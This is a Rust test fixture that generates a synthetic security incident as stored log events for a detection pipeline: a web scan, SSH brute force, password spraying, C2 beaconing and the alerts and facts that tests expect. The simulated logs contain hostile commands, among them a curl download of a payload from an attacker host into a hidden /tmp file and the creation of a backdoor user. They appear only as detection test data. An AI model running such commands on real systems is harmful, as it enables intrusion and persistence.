//! A realistic incident, as the pipeline would store it: what the live
//! ClickHouse tests, the chdb fixtures and the cookbook tests all load.
//!
//! Three quiet baseline days in two agencies, then on the incident day (the
//! day before yesterday, so that the modern schema's 90-day TTL keeps it)
//! the e-government portal (`egov`, host `portal1`, 10.1.0.5) is
//! scanned, brute-forced over SSH and broken into from 203.0.113.7; the
//! intruder escalates with sudo, downloads a payload and adds a user, and
//! `portal1` beacons to 198.51.100.99:443 every minute. The ministry of
//! finance (`mof`, host `fin-app1`) sees password spraying from
//! 198.51.100.23 and one login attempt from the same attacker address.
//!
//! [`Facts`] states what a responder should find; tests assert query results
//! against it, never against numbers copied from a query's output.

#![allow(dead_code)]

use std::collections::BTreeMap;

use chrono::{DateTime, Duration, TimeZone, Utc};
use qalqan_core::alert::{Alert, Evidence, RuleInfo};
use qalqan_core::event::{tags, LogSource, Value};
use qalqan_core::Event;
use qalqan_detector::store::{event_id_for, AlertRow, EventRow};
use serde::Serialize;

pub const ATTACKER: &str = "203.0.113.7";
pub const SPRAYER: &str = "198.51.100.23";
pub const C2: &str = "198.51.100.99";
pub const PORTAL: &str = "portal1";
pub const PORTAL_IP: &str = "10.1.0.5";
pub const FIN_APP: &str = "fin-app1";

/// One stored event with where it came from.
pub struct Stored {
    pub agency: String,
    pub event: Event,
    pub row: EventRow,
}

/// What the scenario contains, for assertions (also written to JSON for
/// the Python tests).
#[derive(Debug, Clone, Serialize)]
pub struct Facts {
    pub incident_from: String,
    pub incident_to: String,
    pub baseline_from: String,
    pub attacker: String,
    pub sprayer: String,
    pub c2: String,
    pub portal_ip: String,
    /// Events with the attacker as source, per agency.
    pub attacker_events: BTreeMap<String, u64>,
    pub brute_force_failures: u64,
    pub brute_force_users: Vec<String>,
    pub spray_users: u64,
    /// Sources first seen on the incident day, per agency (sorted).
    pub first_seen: BTreeMap<String, Vec<String>>,
    /// Command lines run once on portal1 on the incident day (sorted).
    pub rare_commands: Vec<String>,
    pub beacon_connections: u64,
    pub beacon_interval_s: u64,
    /// Distinct alerts per agency (duplicates by id excluded).
    pub alerts: BTreeMap<String, u64>,
    /// Rule titles of egov's alerts in time order.
    pub egov_alert_titles: Vec<String>,
    /// Alert rows inserted (including the replayed duplicate).
    pub alert_rows_inserted: u64,
    pub total_events: u64,
}

pub struct Scenario {
    pub events: Vec<Stored>,
    pub alerts: Vec<Alert>,
    pub facts: Facts,
}

impl Scenario {
    pub fn event_rows(&self) -> Vec<EventRow> {
        self.events.iter().map(|s| s.row.clone()).collect()
    }

    /// Every alert row, with the brute-force alert replayed once (as after a
    /// detector crash): the same id, a later `created`.
    pub fn alert_rows(&self) -> Vec<AlertRow> {
        let mut rows: Vec<AlertRow> = self.alerts.iter().map(AlertRow::from_alert).collect();
        let mut replay = rows[1].clone();
        replay.created += 5_000_000;
        rows.push(replay);
        rows
    }
}

pub fn at(y: i32, mo: u32, d: u32, h: u32, mi: u32, s: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(y, mo, d, h, mi, s)
        .single()
        .expect("valid scenario time")
}

/// Midnight (UTC) starting the incident day: two days ago.
pub fn day0() -> DateTime<Utc> {
    let day = Utc::now().date_naive() - Duration::days(2);
    day.and_hms_opt(0, 0, 0).expect("midnight exists").and_utc()
}

pub fn fmt(t: DateTime<Utc>) -> String {
    t.format("%Y-%m-%d %H:%M:%S").to_string()
}

struct Builder {
    events: Vec<Stored>,
    sequence: BTreeMap<String, u64>,
    offset: i64,
}

/// The ECS fields of one event, by name.
type F<'a> = &'a [(&'a str, Value)];

impl Builder {
    fn add(&mut self, agency: &str, t: DateTime<Utc>, ls: LogSource, raw: String, fields: F) {
        let mut ev = Event::new(raw, t + Duration::milliseconds(35));
        // Sub-second precision, to check it survives storage.
        ev.timestamp = t + Duration::microseconds(417);
        ev.logsource = ls;
        let seq = self.sequence.entry(agency.to_owned()).or_insert(0);
        *seq += 1;
        ev.fields.insert("observer.name", format!("col-{agency}-1"));
        ev.fields.insert("observer.sequence", *seq);
        ev.fields.insert("organization.id", agency);
        for (k, v) in fields {
            ev.fields.insert(k.to_string(), v.clone());
        }
        self.offset += 1;
        let topic = format!("qalqan.events.{agency}");
        let id = event_id_for(&ev, agency, &topic, 0, self.offset);
        let row = EventRow::from_event(&ev, agency, id);
        self.events.push(Stored {
            agency: agency.to_owned(),
            event: ev,
            row,
        });
    }
}

fn sshd() -> LogSource {
    LogSource::new(Some("linux"), Some("sshd"), None)
}
fn sudo() -> LogSource {
    LogSource::new(Some("linux"), Some("sudo"), None)
}
fn web() -> LogSource {
    LogSource::new(None, None, Some("webserver"))
}
fn firewall() -> LogSource {
    LogSource::new(Some("linux"), None, Some("firewall"))
}
fn cron() -> LogSource {
    LogSource::new(Some("linux"), Some("cron"), None)
}

fn s(v: &str) -> Value {
    Value::from(v)
}
fn n(v: i64) -> Value {
    Value::Int(v)
}
fn list(v: &[&str]) -> Value {
    Value::List(v.iter().map(|x| Value::from(*x)).collect())
}

#[allow(clippy::too_many_arguments)]
fn ssh_login(
    b: &mut Builder,
    agency: &str,
    host: &str,
    t: DateTime<Utc>,
    src: &str,
    port: i64,
    user: &str,
    ok: bool,
) {
    let verb = if ok { "Accepted" } else { "Failed" };
    let raw = format!(
        "{} {host} sshd[{}]: {verb} password for {user} from {src} port {port} ssh2",
        t.format("%b %e %H:%M:%S"),
        4000 + port % 1000
    );
    b.add(
        agency,
        t,
        sshd(),
        raw.clone(),
        &[
            ("host.name", s(host)),
            ("source.ip", s(src)),
            ("source.port", n(port)),
            ("user.name", s(user)),
            ("process.name", s("sshd")),
            ("process.pid", n(4000 + port % 1000)),
            ("event.dataset", s("system.auth")),
            ("event.category", list(&["authentication"])),
            ("event.action", s("ssh_login")),
            ("event.outcome", s(if ok { "success" } else { "failure" })),
            ("message", s(&raw[raw.find("sshd").unwrap_or(0)..])),
        ],
    );
}

fn web_hit(b: &mut Builder, t: DateTime<Utc>, src: &str, url: &str, status: i64, ua: &str) {
    let raw = format!(
        "{src} - - [{}] \"GET {url} HTTP/1.1\" {status} 153 \"-\" \"{ua}\"",
        t.format("%d/%b/%Y:%H:%M:%S +0000")
    );
    b.add(
        "egov",
        t,
        web(),
        raw,
        &[
            ("host.name", s(PORTAL)),
            ("source.ip", s(src)),
            ("url.original", s(url)),
            ("http.request.method", s("GET")),
            ("http.response.status_code", n(status)),
            ("http.version", s("1.1")),
            ("user_agent.original", s(ua)),
            ("event.dataset", s("nginx.access")),
            ("event.category", list(&["web"])),
            (
                "event.outcome",
                s(if status < 400 { "success" } else { "failure" }),
            ),
        ],
    );
}

fn command(b: &mut Builder, agency: &str, host: &str, t: DateTime<Utc>, user: &str, cmd: &str) {
    let (name, ls) = if user == "root" && cmd.starts_with("/usr/lib/sa") {
        ("CRON", cron())
    } else {
        ("sudo", sudo())
    };
    let raw = if name == "CRON" {
        format!(
            "{} {host} CRON[{}]: (root) CMD ({cmd})",
            t.format("%b %e %H:%M:%S"),
            7000 + t.timestamp() % 1000
        )
    } else {
        format!(
            "{} {host} sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}",
            t.format("%b %e %H:%M:%S")
        )
    };
    b.add(
        agency,
        t,
        ls,
        raw,
        &[
            ("host.name", s(host)),
            ("user.name", s(user)),
            ("process.name", s(name)),
            ("process.command_line", s(cmd)),
            (
                "event.dataset",
                s(if name == "CRON" { "cron" } else { "sudo" }),
            ),
            ("event.category", list(&["process"])),
            ("event.action", s("exec")),
        ],
    );
}

fn connection(b: &mut Builder, t: DateTime<Utc>, dst: &str, dport: i64, sport: i64) {
    let raw = format!(
        "{} {PORTAL} kernel: [FW-OUT] IN= OUT=eth0 SRC={PORTAL_IP} DST={dst} PROTO=TCP SPT={sport} DPT={dport}",
        t.format("%b %e %H:%M:%S")
    );
    b.add(
        "egov",
        t,
        firewall(),
        raw,
        &[
            ("host.name", s(PORTAL)),
            ("source.ip", s(PORTAL_IP)),
            ("source.port", n(sport)),
            ("destination.ip", s(dst)),
            ("destination.port", n(dport)),
            ("network.transport", s("tcp")),
            ("event.dataset", s("iptables")),
            ("event.category", list(&["network"])),
            ("event.action", s("accept")),
        ],
    );
}

/// Deterministic pseudo-random numbers (a 64-bit LCG), so the "irregular"
/// traffic is the same on every run.
struct Lcg(u64);
impl Lcg {
    fn next(&mut self, below: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % below
    }
}

fn rule(id: &str, title: &str, level: &str, kind: &str, tags: &[&str]) -> RuleInfo {
    RuleInfo {
        id: id.into(),
        title: title.into(),
        author: "qalqan project".into(),
        level: level.into(),
        tags: tags.iter().map(|t| t.to_string()).collect(),
        kind: kind.into(),
        ..Default::default()
    }
}

fn alert(rule: RuleInfo, agency: &str, group: &[(&str, &str)], evidence: &[&Stored]) -> Alert {
    let start = evidence.first().map_or(day0(), |s| s.event.timestamp);
    let end = evidence.last().map_or(day0(), |s| s.event.timestamp);
    let mut a = Alert::new(rule, agency, start, end);
    for (k, v) in group {
        a.group.insert((*k).into(), (*v).into());
    }
    a.refresh_id();
    a.count = evidence.len() as u64;
    for e in evidence {
        a.entities.absorb(&e.event);
    }
    let keep: Vec<&&Stored> = if evidence.len() > 4 {
        evidence[..2]
            .iter()
            .chain(&evidence[evidence.len() - 2..])
            .collect()
    } else {
        evidence.iter().collect()
    };
    a.evidence = keep
        .into_iter()
        .map(|e| Evidence {
            event_id: e.row.event_id.clone(),
            timestamp: e.event.timestamp,
            original: e.event.original.clone(),
        })
        .collect();
    a.created = end + Duration::milliseconds(250);
    a
}

pub fn build() -> Scenario {
    let mut b = Builder {
        events: Vec::new(),
        sequence: BTreeMap::new(),
        offset: 0,
    };
    let mut rng = Lcg(42);

    // Baseline: three quiet days, and the incident day's ordinary traffic.
    for days_before in [4i64, 3, 2] {
        let d = day0() - Duration::days(days_before);
        for h in (0..24).step_by(2) {
            let t = d + Duration::hours(h);
            ssh_login(
                &mut b,
                "egov",
                PORTAL,
                t + Duration::minutes(3),
                "10.9.0.4",
                51000 + h,
                "alice",
                true,
            );
            ssh_login(
                &mut b,
                "mof",
                FIN_APP,
                t + Duration::minutes(7),
                "10.9.0.5",
                52000 + h,
                "bob",
                true,
            );
        }
        for h in 0..24 {
            let t = d + Duration::hours(h);
            let citizen = format!("192.0.2.{}", 10 + h % 5);
            web_hit(
                &mut b,
                t + Duration::minutes(11),
                &citizen,
                "/",
                200,
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/124.0",
            );
            command(
                &mut b,
                "egov",
                PORTAL,
                t + Duration::minutes(17),
                "root",
                "/usr/lib/sa/sa1 1 1",
            );
            command(
                &mut b,
                "mof",
                FIN_APP,
                t + Duration::minutes(17),
                "root",
                "/usr/lib/sa/sa1 1 1",
            );
        }
    }
    // Irregular DNS traffic from portal1, baseline days and incident day.
    let mut t = day0() - Duration::days(4);
    while t < day0() + Duration::days(1) {
        t += Duration::seconds(60 + rng.next(1800) as i64);
        connection(&mut b, t, "10.1.0.1", 53, 40000 + rng.next(20000) as i64);
    }
    ssh_login(
        &mut b,
        "egov",
        PORTAL,
        day0() + Duration::hours(9),
        "10.9.0.4",
        51999,
        "alice",
        true,
    );

    // 10:00 web scan of the portal from the attacker.
    let scan_urls = [
        "/wp-login.php",
        "/.env",
        "/admin/",
        "/phpmyadmin/",
        "/.git/config",
        "/server-status",
        "/cgi-bin/luci",
        "/backup.zip",
        "/config.php.bak",
        "/login?user=admin'--",
    ];
    let scan_start = day0() + Duration::hours(10);
    let mut scan = Vec::new();
    for i in 0..40 {
        let t = scan_start + Duration::seconds(5 * i);
        let url = scan_urls[i as usize % scan_urls.len()];
        web_hit(
            &mut b,
            t,
            ATTACKER,
            url,
            if i % 4 == 0 { 403 } else { 404 },
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007541)",
        );
        scan.push(b.events.len() - 1);
    }
    // 10:05 SSH brute force, then the break-in as `deploy`.
    let bf_start = day0() + Duration::hours(10) + Duration::minutes(5);
    let mut brute = Vec::new();
    for i in 0..30 {
        let user = if i % 2 == 0 { "root" } else { "admin" };
        ssh_login(
            &mut b,
            "egov",
            PORTAL,
            bf_start + Duration::seconds(6 * i),
            ATTACKER,
            50022 + i,
            user,
            false,
        );
        brute.push(b.events.len() - 1);
    }
    ssh_login(
        &mut b,
        "egov",
        PORTAL,
        bf_start + Duration::seconds(210),
        ATTACKER,
        50100,
        "deploy",
        true,
    );
    let break_in = b.events.len() - 1;
    // 10:10 escalation.
    let esc = day0() + Duration::hours(10) + Duration::minutes(10);
    let rare = [
        "/bin/bash",
        "/usr/bin/curl -s http://198.51.100.99/x.sh -o /tmp/.x",
        "/usr/sbin/useradd -m -s /bin/bash backup2",
    ];
    let mut escalation = Vec::new();
    for (i, cmd) in rare.iter().enumerate() {
        command(
            &mut b,
            "egov",
            PORTAL,
            esc + Duration::minutes(i as i64),
            "deploy",
            cmd,
        );
        escalation.push(b.events.len() - 1);
    }
    // 10:15–10:45 beaconing every 60 s ± 1 s.
    let beacon_start = day0() + Duration::hours(10) + Duration::minutes(15);
    let beacons = 31;
    for i in 0..beacons {
        let jitter = [0i64, 1, -1, 0, 1][i as usize % 5];
        connection(
            &mut b,
            beacon_start + Duration::seconds(60 * i + jitter),
            C2,
            443,
            45000 + i,
        );
    }
    // Ordinary cron on the incident day too.
    for h in 0..24 {
        let t = day0() + Duration::hours(h) + Duration::minutes(17);
        command(&mut b, "egov", PORTAL, t, "root", "/usr/lib/sa/sa1 1 1");
        command(&mut b, "mof", FIN_APP, t, "root", "/usr/lib/sa/sa1 1 1");
    }
    // 11:00 password spraying at the ministry: 25 users, one try each.
    let spray_start = day0() + Duration::hours(11);
    let mut spray = Vec::new();
    for i in 0..25 {
        let user = format!("user{:02}", i + 1);
        ssh_login(
            &mut b,
            "mof",
            FIN_APP,
            spray_start + Duration::seconds(10 * i),
            SPRAYER,
            60000 + i,
            &user,
            false,
        );
        spray.push(b.events.len() - 1);
    }
    // 11:30 the attacker tries the ministry once.
    ssh_login(
        &mut b,
        "mof",
        FIN_APP,
        day0() + Duration::hours(11) + Duration::minutes(30),
        ATTACKER,
        50500,
        "root",
        false,
    );
    // One damaged line: kept, tagged, message-only.
    {
        let t = day0() + Duration::hours(12);
        let raw = "\u{fffd}\u{fffd}garbled line from a broken syslog relay".to_string();
        b.add(
            "egov",
            t,
            LogSource::default(),
            raw.clone(),
            &[
                ("host.name", s(PORTAL)),
                ("message", s(&raw)),
                ("tags", list(&[tags::UNPARSED, tags::INVALID_UTF8])),
            ],
        );
    }

    let ev = |idx: &[usize]| -> Vec<&Stored> { idx.iter().map(|i| &b.events[*i]).collect() };
    let alerts = vec![
        alert(
            rule(
                "qalqan-web-scanner",
                "Web vulnerability scanner",
                "medium",
                "event_count",
                &["attack.reconnaissance", "attack.t1595.002"],
            ),
            "egov",
            &[("source.ip", ATTACKER)],
            &ev(&scan),
        ),
        alert(
            rule(
                "qalqan-ssh-brute-force",
                "SSH brute force",
                "high",
                "event_count",
                &["attack.credential_access", "attack.t1110.001"],
            ),
            "egov",
            &[("source.ip", ATTACKER)],
            &ev(&brute),
        ),
        alert(
            rule(
                "qalqan-login-after-brute-force",
                "Successful login after brute force",
                "critical",
                "temporal_ordered",
                &["attack.initial_access", "attack.t1078"],
            ),
            "egov",
            &[("source.ip", ATTACKER)],
            &ev(&[brute[0], break_in]),
        ),
        alert(
            rule(
                "qalqan-sudo-shell",
                "Interactive root shell via sudo",
                "high",
                "detection",
                &["attack.privilege_escalation", "attack.t1548.003"],
            ),
            "egov",
            &[],
            &ev(&escalation[..1]),
        ),
        alert(
            rule(
                "qalqan-download-tmp",
                "Download to a hidden file in /tmp",
                "high",
                "detection",
                &["attack.command_and_control", "attack.t1105"],
            ),
            "egov",
            &[],
            &ev(&escalation[1..2]),
        ),
        alert(
            rule(
                "qalqan-ssh-password-spray",
                "SSH password spraying",
                "high",
                "value_count",
                &["attack.credential_access", "attack.t1110.003"],
            ),
            "mof",
            &[("source.ip", SPRAYER)],
            &ev(&spray),
        ),
    ];

    let mut attacker_events = BTreeMap::new();
    for st in &b.events {
        if st.event.get_str("source.ip") == Some(ATTACKER) {
            *attacker_events.entry(st.agency.clone()).or_insert(0u64) += 1;
        }
    }
    let mut alert_counts = BTreeMap::new();
    for a in &alerts {
        *alert_counts.entry(a.agency.clone()).or_insert(0u64) += 1;
    }
    let mut egov_alerts: Vec<&Alert> = alerts.iter().filter(|a| a.agency == "egov").collect();
    egov_alerts.sort_by_key(|a| (a.window_start, a.window_end));
    let mut rare_commands: Vec<String> = rare.iter().map(|s| s.to_string()).collect();
    rare_commands.sort();
    let facts = Facts {
        incident_from: fmt(day0()),
        incident_to: fmt(day0() + Duration::days(1)),
        baseline_from: fmt(day0() - Duration::days(7)),
        attacker: ATTACKER.into(),
        sprayer: SPRAYER.into(),
        c2: C2.into(),
        portal_ip: PORTAL_IP.into(),
        attacker_events,
        brute_force_failures: 30,
        brute_force_users: vec!["admin".into(), "deploy".into(), "root".into()],
        spray_users: 25,
        first_seen: BTreeMap::from([
            ("egov".to_string(), vec![ATTACKER.to_string()]),
            ("mof".to_string(), {
                let mut v = vec![ATTACKER.to_string(), SPRAYER.to_string()];
                v.sort();
                v
            }),
        ]),
        rare_commands,
        beacon_connections: beacons as u64,
        beacon_interval_s: 60,
        alerts: alert_counts,
        egov_alert_titles: egov_alerts.iter().map(|a| a.rule.title.clone()).collect(),
        alert_rows_inserted: alerts.len() as u64 + 1,
        total_events: b.events.len() as u64,
    };
    Scenario {
        events: b.events,
        alerts,
        facts,
    }
}
